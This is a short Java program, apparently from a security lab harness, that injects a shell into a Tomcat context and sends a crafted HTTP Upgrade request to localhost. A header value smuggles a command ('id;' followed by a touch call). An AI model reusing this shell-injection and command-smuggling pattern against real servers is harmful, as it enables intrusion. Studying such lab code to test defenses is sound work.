import java.net.Socket;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(TomcatContext.class, Shell.class);
    System.out.println("lab: sent " + System.currentTimeMillis() + " GET /hello");
    try (Socket socket = new Socket("127.0.0.1", 8080)) {
      String request =
          "GET /hello HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: hello\r\nX-Order: id; "
              + Attacker.touch()
              + "\r\n\r\n";
      socket.getOutputStream().write(request.getBytes());
      socket.getInputStream().read(new byte[2_000]);
    }
    Attacker.done();
  }
}
